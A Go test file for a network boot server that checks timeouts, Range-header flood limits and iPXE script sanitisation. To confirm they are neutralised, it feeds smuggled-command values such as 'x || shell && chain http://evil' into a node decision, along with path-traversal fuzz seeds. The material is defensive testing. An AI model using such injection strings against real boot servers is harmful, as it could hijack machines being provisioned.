@@ -1,0 +1,294 @@
+package bootserver
+
+import (
+	"bufio"
+	"bytes"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// limitedServer serves a fixture through a real http.Server built as
+// provisioner-lite builds it, with short limits so the tests run fast.
+func limitedServer(t *testing.T, l Limits) (*fixture, string) {
+	t.Helper()
+	f := newFixture(t)
+	s, err := New(Config{ImageDir: f.imgDir, ArtifactDir: f.artDir, BaseURL: f.baseURL, Logger: slog.New(slog.NewTextHandler(f.logBuf, nil)), Limits: l}, f.coord)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	hs := s.HTTPServer()
+	go hs.Serve(s.Listener(ln))
+	t.Cleanup(func() { hs.Close() })
+	return f, ln.Addr().String()
+}
+
+// closedWithin reads from c until the server closes it, and fails if that
+// takes longer than max (a guard against a hang, not a timing claim).
+func closedWithin(t *testing.T, c net.Conn, max time.Duration) time.Duration {
+	t.Helper()
+	start := time.Now()
+	c.SetReadDeadline(start.Add(max))
+	_, err := io.Copy(io.Discard, c)
+	var ne net.Error
+	if errors.As(err, &ne) && ne.Timeout() {
+		t.Fatalf("connection still open after %s", max)
+	}
+	return time.Since(start)
+}
+
+// A callback body that trickles in is cut at the body deadline, and what it
+// carried is never recorded.
+func TestSlowBodyCut(t *testing.T) {
+	f, addr := limitedServer(t, Limits{Body: 500 * time.Millisecond})
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "POST /v1/nodes/n1/ready HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer good-token\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4096\r\n\r\nhostname=")
+	go func() {
+		for i := 0; i < 100; i++ {
+			if _, err := c.Write([]byte("a")); err != nil {
+				return
+			}
+			time.Sleep(100 * time.Millisecond)
+		}
+	}()
+	took := closedWithin(t, c, 15*time.Second)
+	t.Logf("slow body cut after %s", took.Round(10*time.Millisecond))
+	if len(f.coord.ready) != 0 {
+		t.Fatalf("a callback with a body that never finished was recorded: %+v", f.coord.ready)
+	}
+}
+
+// An idle keep-alive connection is closed at the idle deadline.
+func TestIdleKeepAliveClosed(t *testing.T) {
+	_, addr := limitedServer(t, Limits{Idle: 300 * time.Millisecond, ReadHeader: 300 * time.Millisecond})
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "GET /boot.ipxe HTTP/1.1\r\nHost: x\r\n\r\n")
+	br := bufio.NewReader(c)
+	resp, err := http.ReadResponse(br, nil)
+	if err != nil || resp.StatusCode != 200 {
+		t.Fatalf("first request: %v %v", resp, err)
+	}
+	io.Copy(io.Discard, resp.Body)
+	// Now say nothing: the server must hang up.
+	closedWithin(t, c, 10*time.Second)
+	// A client that never finishes its headers is cut too.
+	c2, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c2.Close()
+	fmt.Fprintf(c2, "GET /boot.ipxe HTTP/1.1\r\nHost: x\r\n")
+	closedWithin(t, c2, 20*time.Second)
+}
+
+// A client that stops reading an artifact is cut once a chunk has waited
+// Stall; a reader that keeps reading gets every byte.
+func TestStalledArtifactReaderCut(t *testing.T) {
+	f, addr := limitedServer(t, Limits{Stall: 500 * time.Millisecond})
+	content := bytes.Repeat([]byte("artifact"), 8<<20/8*4) // 32 MiB: more than the socket buffers hold
+	h := importBytes(t, f.artDir, content)
+
+	raw, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer raw.Close()
+	fmt.Fprintf(raw, "GET /artifacts/sha256/%s HTTP/1.1\r\nHost: x\r\n\r\n", h)
+	time.Sleep(3 * time.Second) // read nothing
+	n, _ := io.Copy(io.Discard, raw)
+	if n >= int64(len(content)) {
+		t.Fatalf("stalled reader still got all %d bytes", n)
+	}
+	t.Logf("stalled reader got %d of %d bytes before the cut", n, len(content))
+	if !strings.Contains(f.logBuf.String(), "path=/artifacts/sha256/"+h) {
+		t.Fatalf("the cut request never finished on the server:\n%s", f.logBuf.String())
+	}
+	// A normal reader is unaffected by the stall deadline, however long the download.
+	resp, err := http.Get("http://" + addr + "/artifacts/sha256/" + h)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer resp.Body.Close()
+	got, err := io.ReadAll(resp.Body)
+	if err != nil || !bytes.Equal(got, content) {
+		t.Fatalf("normal download: %d bytes, %v", len(got), err)
+	}
+}
+
+// Many or overlapping Range parts are refused: 80 KB of header must not
+// turn into megabytes of response.
+func TestRangeFloodRefused(t *testing.T) {
+	f, addr := limitedServer(t, Limits{})
+	content := bytes.Repeat([]byte("0123456789"), 10000)
+	h := importBytes(t, f.artDir, content)
+	get := func(rng string) (*http.Response, []byte) {
+		req, _ := http.NewRequest("GET", "http://"+addr+"/artifacts/sha256/"+h, nil)
+		req.Header.Set("Range", rng)
+		resp, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		b, _ := io.ReadAll(resp.Body)
+		return resp, b
+	}
+	overlapping := "bytes=" + strings.TrimSuffix(strings.Repeat("0-99999,", 17), ",")
+	if resp, b := get(overlapping); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable || len(b) > 200 {
+		t.Fatalf("17 overlapping parts: %d, %d bytes", resp.StatusCode, len(b))
+	}
+	if resp, _ := get("bytes=0-9,5-20"); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable {
+		t.Fatalf("two overlapping parts: %d", resp.StatusCode)
+	}
+	if resp, _ := get("bytes=0-9,-5"); resp.StatusCode != http.StatusRequestedRangeNotSatisfiable {
+		t.Fatalf("suffix mixed with a range: %d", resp.StatusCode)
+	}
+	// The header itself is capped too (16 KiB).
+	huge := "bytes=" + strings.TrimSuffix(strings.Repeat("0-1,", 20000), ",")
+	if resp, _ := get(huge); resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge {
+		t.Fatalf("80 KB Range header: %d, want 431", resp.StatusCode)
+	}
+	// Two disjoint parts are fine (multipart), and one part is the resume path.
+	if resp, b := get("bytes=0-9,100-109"); resp.StatusCode != http.StatusPartialContent || !bytes.Contains(b, []byte("0123456789")) {
+		t.Fatalf("two disjoint parts: %d %q", resp.StatusCode, b)
+	}
+	if resp, b := get("bytes=10-19"); resp.StatusCode != http.StatusPartialContent || string(b) != "0123456789" {
+		t.Fatalf("one part: %d %q", resp.StatusCode, b)
+	}
+}
+
+// What a peer can put in a per-node decision never becomes an iPXE
+// operator: every echo word and every kernel argument is plain.
+func TestIPXEOperatorsNeutralised(t *testing.T) {
+	f := newFixture(t)
+	f.coord.decisions["52:54:00:12:34:59"] = Decision{Boot: false, Reason: "x || shell && chain http://evil ; #hidden ${net0/ip} \x1b]0;t\x07"}
+	_, body := f.get(t, "/ipxe/52:54:00:12:34:59")
+	for _, line := range strings.Split(strings.TrimSpace(body), "\n")[1:] {
+		for _, word := range strings.Fields(line) {
+			if word == "||" || word == "&&" || word == ";" || strings.HasPrefix(word, "#") || strings.Contains(word, "${") {
+				t.Fatalf("iPXE operator %q survived in line %q of:\n%s", word, line, body)
+			}
+		}
+		if strings.ContainsAny(line, "\x1b\x07") {
+			t.Fatalf("control character in %q", line)
+		}
+	}
+	for _, bad := range []string{"a=b || shell", "cure.token=#x", "x=${y}", "a=1 ; b", "a=b&&c"} {
+		f.coord.decisions["52:54:00:12:34:5a"] = Decision{Boot: true, Cmdline: bad}
+		if resp, body := f.get(t, "/ipxe/52:54:00:12:34:5a"); resp.StatusCode != 500 || strings.Contains(body, "\nkernel ") {
+			t.Errorf("cmdline %q: %d\n%s", bad, resp.StatusCode, body)
+		}
+	}
+}
+
+// FuzzRoutes feeds hostile paths, headers and bodies to every route through
+// the real handler: no panic, no 5xx but the ones a route documents, no
+// decision asked for an invalid MAC, and no script with a live operator.
+func FuzzRoutes(f *testing.F) {
+	for _, s := range [][3]string{
+		{"GET", "/ipxe/52-54-00-12-34-56", ""},
+		{"GET", "/ipxe/${net0/mac}", ""},
+		{"GET", "/artifacts/sha256/" + strings.Repeat("a", 64), "bytes=0-1,1-2"},
+		{"GET", "/image/vmlinuz", "bytes=-5"},
+		{"POST", "/v1/nodes/n1/ready?token=good-token", "hostname=n1&token=x"},
+		{"POST", "/v1/nodes/%2e%2e/ready", "a=%zz"},
+		{"HEAD", "/boot.ipxe", ""},
+	} {
+		f.Add(s[0], s[1], s[2])
+	}
+	dir := f.TempDir()
+	img, art := filepath.Join(dir, "img"), filepath.Join(dir, "art")
+	os.MkdirAll(img, 0o700)
+	os.MkdirAll(art, 0o700)
+	os.WriteFile(filepath.Join(img, Kernel), []byte("K"), 0o600)
+	os.WriteFile(filepath.Join(img, InitramfsGzip), []byte("I"), 0o600)
+	coord := &fakeCoordinator{
+		decisions: map[string]Decision{"52:54:00:12:34:56": {Boot: true, Cmdline: "cure.token=t cure.node=n1", Reason: "run r1"}},
+		tokens:    map[string]string{"good-token": "n1"},
+	}
+	s, err := New(Config{ImageDir: img, ArtifactDir: art, BaseURL: "http://10.0.2.2:8080", Logger: slog.New(slog.DiscardHandler)}, coord)
+	if err != nil {
+		f.Fatal(err)
+	}
+	h := s.Handler()
+	f.Fuzz(func(t *testing.T, method, target, extra string) {
+		if !strings.HasPrefix(target, "/") {
+			target = "/" + target
+		}
+		u, err := url.ParseRequestURI(target)
+		if err != nil {
+			return
+		}
+		req, err := http.NewRequestWithContext(context.Background(), method, "http://x"+u.RequestURI(), strings.NewReader(extra))
+		if err != nil {
+			return
+		}
+		req.Header.Set("Range", extra)
+		req.Header.Set("Authorization", "Bearer "+strings.Map(func(r rune) rune {
+			if r < 0x21 || r > 0x7e {
+				return -1
+			}
+			return r
+		}, extra))
+		req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+		rec := &recorderT{h: http.Header{}}
+		h.ServeHTTP(rec, req)
+		if rec.code >= 500 && rec.code != http.StatusServiceUnavailable {
+			t.Fatalf("%s %s: %d\n%s", method, target, rec.code, rec.body.String())
+		}
+		// The generic script's own ${...} settings are ours; per-node scripts carry decisions.
+		if strings.HasPrefix(rec.body.String(), "#!ipxe") && !strings.HasPrefix(u.Path, "/boot.ipxe") {
+			for _, line := range strings.Split(rec.body.String(), "\n") {
+				if strings.HasPrefix(line, "echo ") || strings.HasPrefix(line, "kernel ") {
+					for _, w := range strings.Fields(line) {
+						if w == "||" || w == "&&" || w == ";" || strings.HasPrefix(w, "#") || strings.Contains(w, "${") {
+							t.Fatalf("iPXE operator %q in %q for %s %s", w, line, method, target)
+						}
+					}
+				}
+			}
+		}
+	})
+}
+
+// recorderT is a minimal ResponseWriter for the fuzzer: it has no deadline
+// support, which the handler must tolerate (ResponseController calls fail).
+type recorderT struct {
+	h    http.Header
+	code int
+	body bytes.Buffer
+}
+
+func (r *recorderT) Header() http.Header { return r.h }
+func (r *recorderT) WriteHeader(c int) {
+	if r.code == 0 {
+		r.code = c
+	}
+}
+func (r *recorderT) Write(b []byte) (int, error) {
+	if r.code == 0 {
+		r.code = 200
+	}
+	return r.body.Write(b)
+}
